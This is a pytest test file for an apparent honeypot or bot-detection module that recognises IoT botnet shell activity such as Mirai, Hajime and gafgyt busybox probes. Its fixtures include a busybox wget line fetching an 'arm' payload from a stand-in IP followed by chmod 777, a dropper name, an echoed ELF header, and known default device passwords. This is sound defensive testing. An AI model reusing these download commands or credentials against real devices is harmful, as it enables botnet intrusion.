import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.protocols.shell import Typed, answers, is_command, is_script_word, may_ask, tokens


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("/bin/busybox ECCHI", ["ECCHI"]),
        ("/bin/busybox ps; /bin/busybox MIRAI", ["MIRAI"]),
        ("cat /proc/mounts; /bin/busybox XUMGL", ["XUMGL"]),  # Hajime: five letters, new ones each time
        ("busybox Switchblades1 && echo", ["Switchblades1"]),
        ("/bin/busybox hostname PBOC", ["hostname PBOC"]),
        ("/bin/busybox wget; /bin/busybox tftp; /bin/busybox PEDO", ["PEDO"]),
        ("/bin/busybox wget http://203.0.113.9/arm -O - > x; /bin/busybox chmod 777 x", []),
        ("/bin/busybox cp /bin/echo dvrHelper && >dvrHelper", []),
        ("echo -e 'gayfgt'", ["gayfgt"]),
        ("echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", ["gayfgt"]),
        ('/bin/busybox;echo -ne "\\\\x67\\\\x61\\\\x79"', ["gay"]),
        ("echo -ne '\\x7f\\x45\\x4c\\x46' > x", []),  # an executable, spelt out
        ("echo -ne '\\x7f\\x45\\x4c\\x46'", []),
        ("echo hi", []),
        ("mybusybox FOO", []),
        ("ls", []),
        ("", []),
    ],
)
def test_tokens(line: str, expected: list[str]) -> None:
    assert tokens(line) == expected


def test_answers_of_a_real_shell() -> None:
    assert answers("ECCHI: applet not found", "ECCHI")
    assert answers("gayfgt", "gayfgt")
    assert not answers("/bin/busybox ECCHI", "ECCHI")
    assert not answers("-sh: /bin/busybox: not found", "ECCHI")


def test_commands_are_told_from_names_and_passwords() -> None:
    for line in (
        "/bin/busybox X",
        "./dvrHelper",
        "cd /tmp || cd /var",
        "wget http://a/b",
        "cat /proc/cpuinfo",
        "sh x.sh",
        "ps;id",
        ">/tmp/.x",
    ):
        assert is_command(line)
    for line in (
        "root",
        "admin",
        "ps",
        "7ujMko0vizxv",
        "xc3511",
        "sh",
        "cat",
        "/",
        "echo",
        "zlxx.",
        "system",
        "W!n0&oO7.",
    ):
        assert not is_command(line)


def test_names_that_only_scripts_type() -> None:
    for line in ("enable", "system", "shell", "sh", "linuxshell", "/bin/busybox MIRAI", " sh "):
        assert is_script_word(line)
    for line in ("root", "admin", "support", "supervisor", "guest", "user"):
        assert not is_script_word(line)
    assert is_script_word("enable", again=False)
    assert not is_script_word("system", again=False)  # an account of some devices


def test_commands_that_ask_for_a_password() -> None:
    for line in ("su", "sudo id", "su - root", "cd /; su", "/bin/su", "passwd", "ssh root@10.0.0.1", "enable"):
        assert may_ask(line)
    for line in ("ls", "sum x", "result", "cat passwds"):
        assert not may_ask(line)


def test_what_was_typed_is_kept_within_limits() -> None:
    kept = Typed()
    kept.command("")
    for i in range(100):
        kept.command(f"echo {'x' * 1000} {i}\x1b[31m; busybox TOKEN{i}")
    assert kept.full
    assert len(kept.commands) == 32
    assert all(len(line) <= 256 and line.isprintable() for line in kept.commands)
    assert len(kept.tokens) == 16
    assert kept.answered("TOKEN3: applet not found")
    assert not kept.answered("TOKEN99: applet not found")


def test_lines_held_become_commands_or_nothing() -> None:
    kept = Typed()
    kept.hold("enable")
    kept.hold("/bin/busybox SORA")
    kept.settle(taken=False)
    assert (kept.commands, kept.held, kept.tokens) == ([], [], ["SORA"])
    kept.hold("sh")
    kept.hold("s3cret")
    kept.settle(taken=True)
    assert kept.commands == ["sh"]


@given(st.text(max_size=600))
def test_any_line_is_read(line: str) -> None:
    assert all(len(token) <= 48 for token in tokens(line))
    is_command(line)
    is_script_word(line)
    may_ask(line)


@pytest.mark.parametrize("part", ["busybox ", "echo ", "\\x41", "echo -e '\\x41\\x41\\x41", " ", "su", "a/b;"])
def test_long_lines_take_linear_time(part: str) -> None:
    line = part * (200_000 // len(part))  # in quadratic time this would not end
    tokens(line)
    is_script_word(line)
    may_ask(line)
